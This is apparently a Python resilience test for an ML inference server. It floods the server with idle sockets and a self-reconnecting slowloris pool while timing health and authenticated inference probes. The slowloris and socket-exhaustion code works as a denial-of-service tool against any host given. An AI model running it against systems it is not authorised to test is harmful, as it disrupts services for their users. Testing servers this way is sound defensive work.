"""Done-when check: N idle sockets plus M slowloris heads; time /v2/health/live and a keyed infer.

Usage: idle_slowloris.py HOST PORT KEY [idle=1100] [slow=200] [seconds=12]
Prints each probe's status and latency while the attack runs; exits 1 if any probe fails.
"""

import http.client
import socket
import sys
import threading
import time

HOST, PORT, KEY = sys.argv[1], int(sys.argv[2]), sys.argv[3]
IDLE = int(sys.argv[4]) if len(sys.argv) > 4 else 1100
SLOW = int(sys.argv[5]) if len(sys.argv) > 5 else 200
SECONDS = float(sys.argv[6]) if len(sys.argv) > 6 else 12.0
BODY = open(sys.argv[7]).read() if len(sys.argv) > 7 else None

socks = []
for _ in range(IDLE):
    s = socket.create_connection((HOST, PORT))
    socks.append(s)
stop = threading.Event()
slow_socks = []
for i in range(SLOW):
    s = socket.create_connection((HOST, PORT))
    s.sendall(b"GET /v2/health/live HTTP/1.1\r\n")
    slow_socks.append(s)


def drip():
    n = 0
    while not stop.is_set():
        for s in list(slow_socks):
            try:
                s.sendall(b"X-%d: y\r\n" % n)
            except OSError:
                slow_socks.remove(s)
                # reconnect: a real slowloris keeps its count up
                try:
                    t = socket.create_connection((HOST, PORT))
                    t.sendall(b"GET /v2/health/live HTTP/1.1\r\n")
                    slow_socks.append(t)
                except OSError:
                    pass
        n += 1
        stop.wait(2.0)


th = threading.Thread(target=drip, daemon=True)
th.start()
fail = 0
t_end = time.monotonic() + SECONDS
while time.monotonic() < t_end:
    for path, method, body, hdrs in [
        ("/v2/health/live", "GET", None, {}),
        ("/v2/models/breast-cancer/infer", "POST", BODY, {"Authorization": f"Bearer {KEY}"}),
    ]:
        t0 = time.monotonic()
        try:
            c = http.client.HTTPConnection(HOST, PORT, timeout=5)
            c.request(method, path, body=body, headers=hdrs)
            r = c.getresponse()
            data = r.read()
            status = r.status
            c.close()
        except Exception as e:
            status, data = 0, repr(e).encode()
        dt = time.monotonic() - t0
        ok = (status == 200) and dt < 1.0
        fail += not ok
        print(
            f"{path} {status} {dt * 1000:.0f} ms {'OK' if ok else 'FAIL ' + data[:120].decode(errors='replace')}",
            flush=True,
        )
    time.sleep(1.0)
alive_idle = 0
for s in socks:
    s.setblocking(False)
    try:
        d = s.recv(1)
        alive_idle += 0 if d == b"" else 1
    except BlockingIOError:
        alive_idle += 1
    except OSError:
        pass
print(
    f"idle sockets still open after {SECONDS:.0f} s: {alive_idle}/{IDLE}; slowloris reconnecting pool {len(slow_socks)}"
)
stop.set()
for s in socks + slow_socks:
    s.close()
sys.exit(1 if fail else 0)
